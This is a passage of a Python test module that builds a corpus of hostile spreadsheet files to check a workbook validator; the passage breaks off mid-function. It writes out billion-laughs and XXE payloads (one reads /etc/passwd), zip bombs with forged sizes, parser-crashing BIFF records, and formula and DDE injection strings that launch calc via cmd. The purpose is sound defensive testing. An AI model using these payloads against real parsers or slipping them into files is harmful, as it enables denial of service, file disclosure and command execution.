"""A corpus of hostile and messy workbooks, generated on demand, with the answer bgindex must give.

Each `Case` builds one file from a valid filled workbook (openpyxl edits, zip surgery, raw bytes,
LibreOffice conversions) and documents the issue code and exit status `bgindex validate` gives for
it. `python tests/corpus.py --doc` renders docs/hostile-files.md from this table.
"""

from __future__ import annotations

import random
import re
import shutil
import struct
import sys
import unicodedata
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cached_property
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).parent))

from helpers import filled, soffice_convert  # noqa: E402
from openpyxl import Workbook, load_workbook  # noqa: E402

from bgindex.catalog import load_catalog  # noqa: E402
from bgindex.catalog.model import Catalog
from bgindex.intake.cfb import Cfb, records  # noqa: E402
from bgindex.model.a1 import col_letter  # noqa: E402
from bgindex.reading import layout as L  # noqa: E402

AGENCY = "HIEPHOA"
DATA = L.SHEET_DATA
INFO = L.SHEET_INFO
DOCS = L.SHEET_DOCS
# Cells of the HIEPHOA template the cases aim at (the layout is fixed by bgindex.outputs.agency_template).
CAUSE = "F5"  # cause of indicator CS01
VALUE = "E6"  # 2024 value of c01_nt_phat_sinh
REPORT_DATE = "B10"  # information sheet: report date
DOC_DATE = "D5"  # first verification document: date

TCVN3_CAUSE = "T¨ng do ®Çu t\xad thªm hÖ thèng xö lý n\xadíc th¶i tËp trung."
VNI_CAUSE = "Taêng do ñaàu tö theâm heä thoáng xöû lyù nöôùc thaûi taäp trung."
UNICODE_CAUSE = "Tăng do đầu tư thêm hệ thống xử lý nước thải tập trung."


class Ctx:
    """Shared inputs of the builders: a work folder and one valid filled workbook."""

    def __init__(self, work: Path, catalog: Catalog | None = None) -> None:
        self.work = work
        self.catalog = catalog or load_catalog()
        work.mkdir(parents=True, exist_ok=True)

    @cached_property
    def valid(self) -> Path:
        folder = self.work / "base"
        folder.mkdir(exist_ok=True)
        return filled(folder, self.catalog, AGENCY)


Builder = Callable[[Ctx, Path], None]


@dataclass(frozen=True)
class Case:
    """One corpus file: how to make it and what `bgindex validate --year 2024` must answer."""

    name: str  # file name, also the case id
    build: Builder  # writes the file (for `convert` cases: the .xlsx LibreOffice converts)
    code: str | None  # the documented issue code (None: a clean file)
    exit: int
    vi: str  # what the file is
    en: str
    todo_vi: str  # what the officer should do
    todo_en: str
    where: tuple[str, ...] = ()  # "sheet!cell" places the code must be reported at
    convert: str | None = None  # "xls" or "ods": made by LibreOffice from the built .xlsx
    post: Callable[[Path], None] | None = None  # surgery on the converted file
    absent: tuple[str, ...] = ()  # codes that must not appear (e.g. a cascade)

    @property
    def stem(self) -> str:
        return Path(self.name).stem


# ---- small tools ---------------------------------------------------------------------------------


def edit(ctx: Ctx, target: Path, change: Callable[[Any], None]) -> None:
    """Copy the valid workbook to `target` and apply an openpyxl edit to it."""
    shutil.copy(ctx.valid, target)
    wb = load_workbook(target)
    change(wb)
    wb.save(target)


def members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {i.filename: zf.read(i) for i in zf.infolist()}


def write_zip(target: Path, parts: dict[str, bytes]) -> None:
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)


def zip_edit(
    ctx: Ctx, target: Path, change: Callable[[dict[str, bytes]], None], source: Path | None = None
) -> None:
    parts = members(source or ctx.valid)
    change(parts)
    write_zip(target, parts)


def sheet_part(parts: dict[str, bytes], sheet: str) -> str:
    """The zip member holding a sheet's XML, by the sheet's name."""
    book = parts["xl/workbook.xml"].decode()
    rels = parts["xl/_rels/workbook.xml.rels"].decode()
    rid = re.search(rf'<sheet [^>]*name="{re.escape(sheet)}"[^>]*r:id="([^"]+)"', book).group(1)
    target = re.search(rf'<Relationship [^>]*Id="{rid}"[^>]*Target="([^"]+)"', rels)
    if target is None:
        target = re.search(rf'<Relationship [^>]*Target="([^"]+)"[^>]*Id="{rid}"', rels)
    path = target.group(1)
    return path.lstrip("/") if path.startswith("/xl/") else "xl/" + path


def set_cell_xml(xml: bytes, ref: str, cell: str) -> bytes:
    """Replace the <c r="ref"> element of a sheet's XML with `cell`."""
    pattern = re.compile(rb'<c r="' + ref.encode() + rb'"[^>]*?(?:/>|>.*?</c>)', re.S)
    out, n = pattern.subn(cell.encode(), xml, count=1)
    assert n == 1, ref
    return out


def add_to_content_types(parts: dict[str, bytes], xml: str) -> None:
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", xml.encode() + b"</Types>"
    )


def add_workbook_rel(parts: dict[str, bytes], rid: str, kind: str, target: str) -> None:
    rel = (
        f'<Relationship Id="{rid}" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="{target}"/>'
    )
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", rel.encode() + b"</Relationships>"
    )


def as_text(cell: Any, value: str) -> None:
    """Store a string as text even when it starts with '=' (openpyxl would make a formula)."""
    cell.value = value
    cell.data_type = "s"


def write_cfb(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE compound file (version 3) holding these streams, each padded to at least
    4096 bytes so that none lives in the mini stream."""
    size = 512
    blobs = [(name, data + b"\0" * (max(4096, len(data)) - len(data))) for name, data in streams.items()]
    blobs = [(name, data + b"\0" * (-len(data) % size)) for name, data in blobs]
    dir_sectors = -(-(len(blobs) + 1) * 128 // size)
    data_sectors = sum(len(d) // size for _, d in blobs)
    fat_sectors = 1
    while fat_sectors * 128 < fat_sectors + dir_sectors + data_sectors:
        fat_sectors += 1
    fat = [0xFFFFFFFD] * fat_sectors
    first_dir = len(fat)
    fat += list(range(first_dir + 1, first_dir + dir_sectors)) + [0xFFFFFFFE]
    starts = []
    for _, data in blobs:
        start, n = len(fat), len(data) // size
        starts.append(start)
        fat += list(range(start + 1, start + n)) + [0xFFFFFFFE]
    fat += [0xFFFFFFFF] * (fat_sectors * 128 - len(fat))

    def entry(name: str, kind: int, child: int, right: int, start: int, length: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\0\0"
        return (
            raw.ljust(64, b"\0")
            + struct.pack("<HBB", len(raw), kind, 1)
            + struct.pack("<III", 0xFFFFFFFF, right, child)
            + b"\0" * 36
            + struct.pack("<IQ", start, length)
        )

    directory = entry("Root Entry", 5, 1 if blobs else 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFE, 0)
    for i, ((name, _), start) in enumerate(zip(blobs, starts, strict=True)):
        right = i + 2 if i + 1 < len(blobs) else 0xFFFFFFFF
        declared = max(4096, len(streams[name]))
        directory += entry(name, 2, 0xFFFFFFFF, right, start, declared)
    directory = directory.ljust(dir_sectors * size, b"\0")
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\0" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\0" * 6
        + struct.pack("<IIIIIIIII", 0, fat_sectors, first_dir, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    )
    difat = list(range(fat_sectors)) + [0xFFFFFFFF] * (109 - fat_sectors)
    header += struct.pack("<109I", *difat)
    body = struct.pack(f"<{len(fat)}I", *fat) + directory + b"".join(d for _, d in blobs)
    return header + body


def _patch_workbook_stream(path: Path, patch: Callable[[bytearray], None]) -> None:
    """Rewrite an .xls with its Workbook stream edited (other streams are dropped)."""
    stream = bytearray(Cfb(path.read_bytes()).stream("Workbook") or b"")
    patch(stream)
    path.write_bytes(write_cfb({"Workbook": bytes(stream)}))


def _sheet_offsets(stream: bytes) -> dict[str, int]:
    out = {}
    for _, kind, data in records(stream):
        if kind == 0x0085:
            cch, wide = data[6], data[7] & 1
            raw = data[8 : 8 + cch * (2 if wide else 1)]
            out[raw.decode("utf-16-le" if wide else "latin-1")] = struct.unpack_from("<I", data)[0]
        elif kind == 0x000A:
            break
    return out


# ---- builders: not a spreadsheet ------------------------------------------------------------------


def _empty(ctx: Ctx, out: Path) -> None:
    out.write_bytes(b"")


def _random(ctx: Ctx, out: Path) -> None:
    out.write_bytes(random.Random(5).randbytes(6000))


def _pdf(ctx: Ctx, out: Path) -> None:
    out.write_bytes(
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
        b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>"
        b"\n%%EOF\n"
    )


def _csv(ctx: Ctx, out: Path) -> None:
    out.write_text(
        "Mã;Nội dung;Năm 2023;Năm 2024\nc01_nt_phat_sinh;Nước thải;3000;3012,5\n"
        "c01_nt_xu_ly_dat;Nước thải xử lý;2400;2711,25\n",
        encoding="utf-8",
    )


def _html(ctx: Ctx, out: Path) -> None:
    out.write_text(
        "<html><head><meta charset='utf-8'></head><body><table border=1>"
        "<tr><td>Mã</td><td>Năm 2024</td></tr><tr><td>c01_nt_phat_sinh</td><td>3012,5</td>"
        "</tr></table></body></html>",
        encoding="utf-8",
    )


def _xml2003(ctx: Ctx, out: Path) -> None:
    out.write_text(
        '<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n'
        '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
        'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="S">'
        '<Table><Row><Cell><Data ss:Type="String">Mã</Data></Cell></Row></Table>'
        "</Worksheet></Workbook>",
        encoding="utf-8",
    )


def _docx(ctx: Ctx, out: Path) -> None:
    write_zip(
        out,
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
            b'package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/'
            b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
            "word/document.xml": '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/'
            '2006/main"><w:body><w:p><w:r><w:t>Báo cáo số liệu năm 2024</w:t></w:r></w:p></w:body>'
            "</w:document>".encode(),
        },
    )


def _doc97(ctx: Ctx, out: Path) -> None:
    out.write_bytes(write_cfb({"WordDocument": b"\xec\xa5" + b"\0" * 510, "1Table": b"\0" * 512}))


def _plain_zip(ctx: Ctx, out: Path) -> None:
    write_zip(out, {"bao-cao.txt": "Số liệu gửi kèm".encode(), "anh.png": b"\x89PNG\r\n"})


def _truncated(ctx: Ctx, out: Path) -> None:
    data = ctx.valid.read_bytes()
    out.write_bytes(data[: len(data) // 2])


def _broken_ole(ctx: Ctx, out: Path) -> None:
    out.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(7).randbytes(3000))


def _xlsb(ctx: Ctx, out: Path) -> None:
    write_zip(
        out,
        {
            "[Content_Types].xml": b"<Types/>",
            "xl/workbook.bin": b"\x83\x01\x00",
            "xl/worksheets/sheet1.bin": b"\x81\x01\x00",
        },
    )


def _biff(*records_: tuple[int, bytes]) -> bytes:
    return b"".join(struct.pack("<HH", kind, len(data)) + data for kind, data in records_)


def _xls_short_record(ctx: Ctx, out: Path) -> None:
    """A workbook stream whose name record (Lbl) is 2 bytes long: calamine indexes past its end
    and panics (a Rust panic arrives in Python as a BaseException, not an Exception)."""
    bof = struct.pack("<HHHHII", 0x0600, 5, 0, 0, 0, 0)
    out.write_bytes(write_cfb({"Workbook": _biff((0x0809, bof), (0x0018, b"\0\0"), (0x000A, b""))}))


def _xls_encrypted(ctx: Ctx, out: Path) -> None:
    """A workbook stream that opens with a FILEPASS record (RC4 encryption), as Excel 97-2003
    writes when a password to open is set."""
    bof = struct.pack("<HHHHII", 0x0600, 5, 0, 0, 0, 0)
    filepass = struct.pack("<HHH", 1, 1, 1) + bytes(48)
    out.write_bytes(write_cfb({"Workbook": _biff((0x0809, bof), (0x002F, filepass), (0x000A, b""))}))


def _encrypted(ctx: Ctx, out: Path) -> None:
    import io

    import msoffcrypto

    with open(ctx.valid, "rb") as fh:
        buffer = io.BytesIO()
        msoffcrypto.OfficeFile(fh).encrypt("MatKhau@2024", buffer)
    out.write_bytes(buffer.getvalue())


# ---- builders: unsafe containers and XML --------------------------------------------------------


def _with_vba(parts: dict[str, bytes]) -> None:
    parts["xl/vbaProject.bin"] = write_cfb({"PROJECT": b'ID="{00000000}"\r\nName="VBAProject"\r\n'})
    add_workbook_rel(parts, "rIdVba", "vbaProject", "vbaProject.bin")
    add_to_content_types(
        parts, '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    )
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"
    )


def _macro_formulas(ctx: Ctx, out: Path) -> None:
    tmp = ctx.work / "macro-formula-src.xlsx"
    edit(ctx, tmp, lambda wb: setattr(wb[DATA][VALUE], "value", "=3000+12.5"))
    zip_edit(ctx, out, _with_vba, source=tmp)


def _macro_plain(ctx: Ctx, out: Path) -> None:
    zip_edit(ctx, out, _with_vba)


def _bomb(ctx: Ctx, out: Path) -> None:
    """A sheet of ~400 MB of identical rows, deflated to well under a megabyte."""
    parts = members(ctx.valid)
    part = sheet_part(parts, DATA)
    xml = parts[part]
    head = xml[: xml.index(b"<sheetData>") + len(b"<sheetData>")]
    row = b'<row><c t="n"><v>1</v></c><c t="n"><v>2</v></c></row>' * 20_000
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for name, data in parts.items():
            if name != part:
                zf.writestr(name, data)
        with zf.open(part, "w") as fh:
            fh.write(head)
            for _ in range(400):
                fh.write(row)
            fh.write(b"</sheetData></worksheet>")


def _patch_sizes(path: Path, name: str, size: int, crc: int | None = None) -> None:
    """Rewrite the uncompressed size (and CRC) a zip declares for one member, in place."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        local = zf.getinfo(name).header_offset
    struct.pack_into("<I", data, local + 22, size)
    if crc is not None:
        struct.pack_into("<I", data, local + 14, crc)
    pos = data.find(b"PK\x01\x02")
    while pos != -1:
        name_len = struct.unpack_from("<H", data, pos + 28)[0]
        if data[pos + 46 : pos + 46 + name_len] == name.encode():
            struct.pack_into("<I", data, pos + 24, size)
            if crc is not None:
                struct.pack_into("<I", data, pos + 16, crc)
            break
        pos = data.find(b"PK\x01\x02", pos + 4)
    path.write_bytes(bytes(data))


def _under_declared(ctx: Ctx, out: Path) -> None:
    shutil.copy(ctx.valid, out)
    part = sheet_part(members(ctx.valid), DATA)
    with zipfile.ZipFile(out) as zf:
        size = zf.getinfo(part).file_size
    _patch_sizes(out, part, size // 2)


def _under_declared_bomb(ctx: Ctx, out: Path) -> None:
    """styles.xml followed by 50 MB of spaces, declared (size and CRC) as the real styles.xml:
    Python's zipfile reads a perfect small file; a reader that trusts the stream inflates 50 MB."""
    parts = members(ctx.valid)
    styles = parts["xl/styles.xml"]
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for name, data in parts.items():
            if name != "xl/styles.xml":
                zf.writestr(name, data)
        with zf.open("xl/styles.xml", "w") as fh:
            fh.write(styles)
            for _ in range(50):
                fh.write(b" " * 1_048_576)
    _patch_sizes(out, "xl/styles.xml", len(styles), zlib.crc32(styles))


LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    )
    + "]>"
)


def _shared_strings(parts: dict[str, bytes], xml: bytes, cell_xml: str | None = None) -> None:
    parts["xl/sharedStrings.xml"] = xml
    add_workbook_rel(parts, "rIdSst", "sharedStrings", "sharedStrings.xml")
    add_to_content_types(
        parts,
        '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>',
    )
    part = sheet_part(parts, DATA)
    parts[part] = set_cell_xml(parts[part], CAUSE, cell_xml or f'<c r="{CAUSE}" t="s"><v>0</v></c>')


SST = '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'


def _laughs_strings(ctx: Ctx, out: Path) -> None:
    xml = f'<?xml version="1.0"?>{LAUGHS}{SST}<si><t>&lol9;</t></si></sst>'.encode()
    zip_edit(ctx, out, lambda p: _shared_strings(p, xml))


def _laughs_sheet(ctx: Ctx, out: Path) -> None:
    def change(parts: dict[str, bytes]) -> None:
        part = sheet_part(parts, DATA)
        xml = set_cell_xml(parts[part], CAUSE, f'<c r="{CAUSE}" t="inlineStr"><is><t>&lol9;</t></is></c>')
        parts[part] = b'<?xml version="1.0"?>' + LAUGHS.encode() + xml

    zip_edit(ctx, out, change)


def _dtd_after_comment(ctx: Ctx, out: Path) -> None:
    """The DTD comes after 6 KB of comment: a check of the first 4 KB would miss it."""
    xml = (
        f'<?xml version="1.0"?><!-- {"chú thích " * 700} -->{LAUGHS}{SST}<si><t>&lol9;</t></si></sst>'
    ).encode()
    zip_edit(ctx, out, lambda p: _shared_strings(p, xml))


def _dtd_utf16(ctx: Ctx, out: Path) -> None:
    xml = f'<?xml version="1.0" encoding="UTF-16"?>{LAUGHS}{SST}<si><t>&lol9;</t></si></sst>'
    zip_edit(ctx, out, lambda p: _shared_strings(p, xml.encode("utf-16")))


def _xxe(ctx: Ctx, out: Path) -> None:
    def change(parts: dict[str, bytes]) -> None:
        part = sheet_part(parts, DATA)
        xml = set_cell_xml(parts[part], CAUSE, f'<c r="{CAUSE}" t="inlineStr"><is><t>&xxe;</t></is></c>')
        parts[part] = (
            b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + xml
        )

    zip_edit(ctx, out, change)


def _far_cell(sheet: str) -> Builder:
    def build(ctx: Ctx, out: Path) -> None:
        def change(wb: Any) -> None:
            ws = wb[sheet] if sheet in wb.sheetnames else wb.create_sheet(sheet)
            ws["XFD1048576"] = 1

        edit(ctx, out, change)

    return build


def _row_index_trick(ctx: Ctx, out: Path) -> None:
    """A cell without an address after <row r="1048576">: calamine puts it on that row, so a scan
    that took the row from the previous cell's address would miss a 1,048,576-row grid."""

    def change(parts: dict[str, bytes]) -> None:
        part = sheet_part(parts, DATA)
        parts[part] = parts[part].replace(
            b"</sheetData>",
            b'<row r="1048576"><c r="H1" t="n"><v>1</v></c><c t="n"><v>2</v></c></row></sheetData>',
        )

    zip_edit(ctx, out, change)


def _many_sheets(ctx: Ctx, out: Path) -> None:
    _many_sheets_n(ctx, out, 3000)


_REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _add_sheets(parts: dict[str, bytes], sheets_xml: dict[str, bytes]) -> None:
    """Add worksheets (name -> sheet XML) to a workbook's parts."""
    sheets, rels, types = [], [], []
    for i, (name, xml) in enumerate(sheets_xml.items()):
        sheets.append(f'<sheet name="{name}" sheetId="{100 + i}" xmlns:r="{_REL_NS}" r:id="rIdX{i}"/>')
        rels.append(
            f'<Relationship Id="rIdX{i}" Type="http://schemas.openxmlformats.org/'
            f'officeDocument/2006/relationships/worksheet" Target="worksheets/x{i}.xml"/>'
        )
        types.append(
            f'<Override PartName="/xl/worksheets/x{i}.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        )
        parts[f"xl/worksheets/x{i}.xml"] = xml
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b"</sheets>", "".join(sheets).encode() + b"</sheets>"
    )
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", "".join(rels).encode() + b"</Relationships>"
    )
    add_to_content_types(parts, "".join(types))


def _many_sheets_n(ctx: Ctx, out: Path, count: int) -> None:
    empty = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>'
    zip_edit(ctx, out, lambda parts: _add_sheets(parts, {f"Trang {i}": empty for i in range(count)}))


def _duplicate_sheet_names(ctx: Ctx, out: Path) -> None:
    """Two sheets named 'Số liệu': a decoy holding a far cell first, then the real one."""

    def change(parts: dict[str, bytes]) -> None:
        parts["xl/worksheets/decoy.xml"] = (
            b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            b'<row r="1048576"><c r="XFD1048576" t="n"><v>1</v></c></row></sheetData></worksheet>'
        )
        add_workbook_rel(parts, "rIdDecoy", "worksheet", "worksheets/decoy.xml")
        add_to_content_types(
            parts,
            '<Override PartName="/xl/worksheets/decoy.xml" ContentType='
            '"application/vnd.openxmlformats-officedocument.spreadsheetml.'
            'worksheet+xml"/>',
        )
        decoy = (
            f'<sheet xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
            f'name="{DATA}" sheetId="99" r:id="rIdDecoy"/>'
        ).encode()
        parts["xl/workbook.xml"] = re.sub(rb"(<sheets>)", rb"\1" + decoy, parts["xl/workbook.xml"])

    zip_edit(ctx, out, change)


def _duplicate_members(ctx: Ctx, out: Path) -> None:
    parts = members(ctx.valid)
    part = sheet_part(parts, DATA)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # "Duplicate name": the point of this case
            zf.writestr(
                part,
                parts[part].replace(
                    b"</sheetData>", b'<row r="60000"><c r="A60000" t="n"><v>1</v></c></row></sheetData>'
                ),
            )


# ---- builders: structure and cells ----------------------------------------------------------------


def _external_link(ctx: Ctx, out: Path) -> None:
    def change(parts: dict[str, bytes]) -> None:
        parts["xl/externalLinks/externalLink1.xml"] = (
            b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            b'<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
            b"</externalBook></externalLink>"
        )
        parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships/externalLinkPath" Target="file:///C:/bao-cao/nguon.xlsx" '
            b'TargetMode="External"/></Relationships>'
        )
        add_workbook_rel(parts, "rIdExt", "externalLink", "externalLinks/externalLink1.xml")
        add_to_content_types(
            parts,
            '<Override PartName="/xl/externalLinks/externalLink1.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.'
            'spreadsheetml.externalLink+xml"/>',
        )
        parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
            b"</sheets>",
            b'</sheets><externalReferences><externalReference r:id="rIdExt" '
            b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships"/></externalReferences>',
        )

    zip_edit(ctx, out, change)


def _not_template(ctx: Ctx, out: Path) -> None:
    wb = Workbook()
    ws = wb.active
    ws.title = "Báo cáo"
    ws.append(["STT", "Chỉ tiêu", "Năm 2024"])
    ws.append([1, "Tỷ lệ nước thải được xử lý", 90])
    wb.save(out)


def _merged(ctx: Ctx, out: Path) -> None:
    def change(wb: Any) -> None:
        wb[DATA].merge_cells("D6:E6")
        wb[DATA].merge_cells("E9:E10")

    edit(ctx, out, change)


def _merged_codes(ctx: Ctx, out: Path) -> None:
    edit(ctx, out, lambda wb: wb[DATA].merge_cells("A6:A7"))


def _hidden_rows(ctx: Ctx, out: Path) -> None:
    def change(wb: Any) -> None:
        wb[DATA].row_dimensions[6].hidden = True
        wb[DATA].row_dimensions[7].hidden = True

    edit(ctx, out, change)


def _hidden_sheet(ctx: Ctx, out: Path) -> None:
    def change(wb: Any) -> None:
        wb.active = 0
        wb[DATA].sheet_state = "hidden"

    edit(ctx, out, change)


def _renamed(ctx: Ctx, out: Path) -> None:
    def change(wb: Any) -> None:
        for i, ws in enumerate(wb.worksheets, start=1):
            ws.title = f"Sheet{i}"

    edit(ctx, out, change)


def _deleted(ctx: Ctx, out: Path) -> None:
    def change(wb: Any) -> None:
        del wb[DATA]

    edit(ctx, out, change)


def _div0(ctx: Ctx, out: Path) -> None:
    def change(parts: dict[str, bytes]) -> None:
        part = sheet_part(parts, DATA)
        parts[part] = set_cell_xml(parts[part], VALUE, f'<c r="{VALUE}" t="e"><f>1/0</f><v>#DIV/0!</v></c>')

    zip_edit(ctx, out, change)


def _div0_formula(ctx: Ctx, out: Path) -> None:
    """A formula LibreOffice evaluates to #DIV/0! when it converts the file."""
    edit(ctx, out, lambda wb: setattr(wb[DATA][VALUE], "value", "=1/0"))


def _long_cause(ctx: Ctx, out: Path) -> None:
    text = ("Tăng do đầu tư thêm hệ thống xử lý nước thải tập trung tại thị trấn. " * 500)[:32_767]
    edit(ctx, out, lambda wb: as_text(wb[DATA][CAUSE], text))


def _control_chars(ctx: Ctx, out: Path) -> None:
    """U+0007 (as Excel escapes it, _x0007_), a C1 control, a zero-width space and a BOM."""

    def change(parts: dict[str, bytes]) -> None:
        part = sheet_part(parts, DATA)
        text = "Tăng do\u0085 đầu tư_x0007_ thêm\u200b hạ tầng\ufeff."
        parts[part] = set_cell_xml(
            parts[part], CAUSE, f'<c r="{CAUSE}" t="inlineStr"><is><t>{text}</t></is></c>'
        )

    zip_edit(ctx, out, change)


def _nfd(ctx: Ctx, out: Path) -> None:
    """Sheet names, headers, labels and text all in decomposed (NFD) Unicode, as macOS writes."""

    def nfd(text: Any) -> Any:
        return unicodedata.normalize("NFD", text) if isinstance(text, str) else text

    def change(wb: Any) -> None:
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and not cell.value.startswith("="):
                        cell.value = nfd(cell.value)
            ws.title = nfd(ws.title)

    edit(ctx, out, change)


def _legacy(text: str) -> Builder:
    def build(ctx: Ctx, out: Path) -> None:
        edit(ctx, out, lambda wb: as_text(wb[DATA][CAUSE], text))

    return build


def _dates_as_text(ctx: Ctx, out: Path) -> None:
    def change(wb: Any) -> None:
        as_text(wb[INFO][REPORT_DATE], "10/02/2025")
        as_text(wb[DOCS][DOC_DATE], "15/12/2024")

    edit(ctx, out, change)


def _formula_text(ctx: Ctx, out: Path) -> None:
    """Untrusted text that a spreadsheet would run if written as a formula, and HTML markup."""

    def change(wb: Any) -> None:
        as_text(wb[DATA][CAUSE], '=HYPERLINK("http://vi-du.invalid/x","Bấm vào đây")')
        as_text(wb[DATA]["G5"], "+84 912 345 678")
        as_text(wb[DATA]["F8"], '<script>alert("x")</script> -2 điểm & <b>giảm</b>')
        as_text(wb[DOCS]["F5"], "@SUM(1+1)*cmd|' /C calc'!A0")
        as_text(wb[DOCS]["F6"], "-1+1")

    edit(ctx, out, change)


def _cause_formula(formula: str, cached: str) -> Builder:
    """The cause cell as a formula with its cached text, as Excel saves it (XML-escaped here)."""

    def build(ctx: Ctx, out: Path) -> None:
        def change(parts: dict[str, bytes]) -> None:
            part = sheet_part(parts, DATA)
            f = formula.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
            cell = f'<c r="{CAUSE}" t="str"><f>{f}</f><v>{cached}</v></c>'
            parts[part] = set_cell_xml(parts[part], CAUSE, cell)

        zip_edit(ctx, out, change)

    return build


def _copy(ctx: Ctx, out: Path) -> None:
    shutil.copy(ctx.valid, out)


def _xls_far(ctx: Ctx, out: Path) -> None:
    edit(ctx, out, lambda wb: wb[DATA].cell(65536, 256, 1))


def _ods_far(ctx: Ctx, out: Path) -> None:
    edit(ctx, out, lambda wb: wb[DATA].cell(1_048_576, 1024, 1))


def _xls_dimensions(path: Path) -> None:
    """The data sheet's DIMENSIONS record claims 65,536 x 256 cells (calamine reserves them)."""

    def patch(stream: bytearray) -> None:
        start = _sheet_offsets(bytes(stream))[DATA]
        for pos, kind, _ in records(bytes(stream), start):
            if kind == 0x0200:
                struct.pack_into("<IIHH", stream, pos + 4, 0, 65536, 0, 256)
                return
        raise AssertionError("no DIMENSIONS record")

    _patch_workbook_stream(path, patch)


def _xls_sst(path: Path) -> None:
    """The string table claims two billion strings (calamine reserves room for them up front)."""

    def patch(stream: bytearray) -> None:
        for pos, kind, _ in records(bytes(stream)):
            if kind == 0x00FC:
                struct.pack_into("<i", stream, pos + 8, 2_000_000_000)
                return
        raise AssertionError("no SST record")

    _patch_workbook_stream(path, patch)


def _ods_encrypted(path: Path) -> None:
    parts = members(path)
    parts["META-INF/manifest.xml"] = parts["META-INF/manifest.xml"].replace(
        b'manifest:full-path="content.xml"',
        b'manifest:full-path="content.xml"><manifest:encryption-data'
        b' manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA"/></manifest:file-entry'
        b'><manifest:file-entry manifest:media-type="text/plain" manifest:full-path="x.txt"',
        1,
    )
    write_zip(path, parts)


def _ods_spaces(path: Path) -> None:
    """<text:s text:c="2000000000"/>: calamine would append two billion spaces to one cell."""
    parts = members(path)
    content = parts["content.xml"]
    cell = content.index(b'office:value-type="string"', content.index(b"<table:table "))
    at = content.index(b"<text:p>", cell) + len(b"<text:p>")
    parts["content.xml"] = content[:at] + b'<text:s text:c="2000000000"/>' + content[at:]
    write_zip(path, parts)


def _largest_grid(formula: bool) -> Builder:
    """Values (or formulas, which LibreOffice computes when it converts) at I50 and CU15000: the data
    sheet spans 15,000 rows x 99 columns, near the largest grid the limits let a reader build
    (MAX_CELLS, all sheets together), from a file of a few kilobytes."""
    value = '="ô "&"xa"' if formula else "ô xa"

    def build(ctx: Ctx, out: Path) -> None:
        def change(wb: Any) -> None:
            wb[DATA].cell(50, 9, value)
